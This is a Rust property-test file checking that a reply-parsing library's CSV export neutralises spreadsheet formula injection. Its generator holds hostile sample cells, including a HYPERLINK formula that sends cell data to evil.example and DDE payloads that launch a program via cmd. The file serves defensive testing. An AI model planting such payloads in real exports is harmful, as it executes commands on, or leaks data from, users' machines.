//! Exports a spreadsheet opens cannot attack it (OWASP "CSV Injection"): hostile replies,
//! generated, exported to CSV, and every cell read back as spreadsheets read it — Excel with `,`
//! or `;` as its list separator, an import splitting on tabs, and a reader that splits on any
//! separator without unquoting — with white space and invisible characters before a formula.

use proptest::prelude::*;
use reply_core::export::{csv, figures_json};
use reply_core::outline::Outline;
use reply_core::parse;

/// The cells of a CSV text as Excel reads it with `sep` as its list separator: a quote opens a
/// quoted part only at a cell's start (elsewhere it is a character), `""` inside is a quote,
/// text after the closing quote is appended; rows end at a line feed (a CR before it dropped).
fn cells(text: &str, sep: char) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let (mut quoted, mut fresh) = (false, true);
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                '"' => quoted = false,
                _ => cell.push(c),
            }
            continue;
        }
        match c {
            '"' if fresh => quoted = true,
            c if c == sep => row.push(std::mem::take(&mut cell)),
            '\r' if chars.peek() == Some(&'\n') => continue,
            '\n' => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
        fresh = c == sep || c == '\n';
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// The pieces of a CSV text for a reader that splits on every separator (`,` `;` tab CR LF)
/// and never unquotes.
fn pieces(text: &str) -> Vec<String> {
    text.split([',', ';', '\t', '\r', '\n']).map(str::to_string).collect()
}

/// Characters that show nothing (a subset of what the export skips).
fn invisible(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
}

/// What Excel, WPS and LibreOffice evaluate: a cell whose first character — after white space,
/// invisible characters and (for a reader that does not unquote) quotes — is = + - @, a tab or
/// a carriage return (DDE payloads start the same way).
fn evaluated(cell: &str) -> bool {
    let skipped = |c: char| c != '\t' && c != '\r' && (c.is_whitespace() || invisible(c) || c == '"');
    matches!(cell.chars().find(|&c| !skipped(c)), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// Replies in the genre whose clauses and headings start, or hold after a separator, what
/// spreadsheets evaluate, hidden behind spaces and invisible characters.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("=HYPERLINK(\"http://evil.example/?\"&B2,\"点击查看详情\")".to_string()),
        Just("+cmd|' /C calc'!A0".to_string()),
        Just("@SUM(1+1)".to_string()),
        Just("-2+3".to_string()),
        Just("=1+1".to_string()),
        Just("\t=1".to_string()),
        Just("  =A1".to_string()),
        Just(";=cmd|' /C calc'!A0".to_string()),
        Just("\n一、总体情况;=cmd|' /C calc'!A0\n".to_string()),
        Just("\n（一）分项情况\t=1+2\n".to_string()),
        Just(",@SUM(1)".to_string()),
        Just(";\"=1\"".to_string()),
        Just("\u{feff}=1".to_string()),
        Just("；\u{200b}+1".to_string()),
        Just("\u{2060}".to_string()),
        Just("\u{200e}".to_string()),
        Just("\u{3000}".to_string()),
        "[\u{200b}-\u{200f}\u{2060}\u{feff};,\t =+@\"-]{1,4}",
        Just("，".to_string()),
        Just("。".to_string()),
        Just("\n".to_string()),
        Just("一、".to_string()),
        Just("（二）".to_string()),
        Just("投入361亿元".to_string()),
        Just("增长30%".to_string()),
        Just("新建5家".to_string()),
        "[\\PC]{0,4}",
    ];
    proptest::collection::vec(piece, 1..30).prop_map(|v| format!("答复\n{}", v.concat()))
}

/// Every cell of every reading of `out`, checked as the property below checks them.
fn assert_inert(out: &str) {
    for sep in [',', ';', '\t'] {
        for row in &cells(out, sep) {
            for c in row {
                assert!(!evaluated(c), "cell {c:?} would be evaluated (list separator {sep:?}) in {out:?}");
            }
        }
    }
    for c in pieces(out) {
        assert!(!evaluated(&c), "piece {c:?} would be evaluated by a splitting reader in {out:?}");
    }
}

/// Found by the property below: a quote right after a `;` opens a quoted part for Excel with
/// `;` as its list separator, and that part then runs over the line end into the next row.
#[test]
fn a_quote_after_a_separator_opens_no_cell_that_runs_over_the_row() {
    for text in [
        "答复\n投入361亿元;\";=cmd|' /C calc'!A0",
        "答复\n投入361亿元;",
        "答复\n投入361亿元;\"",
        "答复\n投入361亿元,\"\t\"=1",
    ] {
        let r = parse(text);
        let outline = Outline::new(&r);
        let all: Vec<usize> = (0..r.figures.len()).collect();
        assert_inert(&csv(&r, &outline, &all));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn no_exported_cell_is_evaluated_and_json_stays_exact(text in hostile()) {
        let r = parse(&text);
        let outline = Outline::new(&r);
        let all: Vec<usize> = (0..r.figures.len()).collect();
        let out = csv(&r, &outline, &all);
        let rows = cells(&out, ',');
        prop_assert_eq!(rows.len(), r.figures.len() + 1, "a header and a row per figure");
        for sep in [',', ';', '\t'] {
            for row in &cells(&out, sep) {
                for c in row {
                    prop_assert!(!evaluated(c), "cell {:?} would be evaluated (list separator {:?})", c, sep);
                }
            }
        }
        for c in pieces(&out) {
            prop_assert!(!evaluated(&c), "piece {:?} would be evaluated by a splitting reader", c);
        }
        // The text stays readable: the clause and the figure's text, the added ' aside.
        let bare = |s: &str| s.replace('\'', "");
        for (f, row) in r.figures.iter().zip(&rows[1..]) {
            prop_assert_eq!(bare(&row[1]), bare(&f.text));
            prop_assert_eq!(bare(&row[10]), bare(&f.context));
        }
        // The JSON export is data, not a spreadsheet: it keeps every clause exactly.
        let json: serde_json::Value = serde_json::from_str(&figures_json(&r, &outline, &all)).expect("JSON");
        for (f, j) in r.figures.iter().zip(json.as_array().expect("array")) {
            prop_assert_eq!(j["context"].as_str(), Some(f.context.as_str()));
        }
    }
}
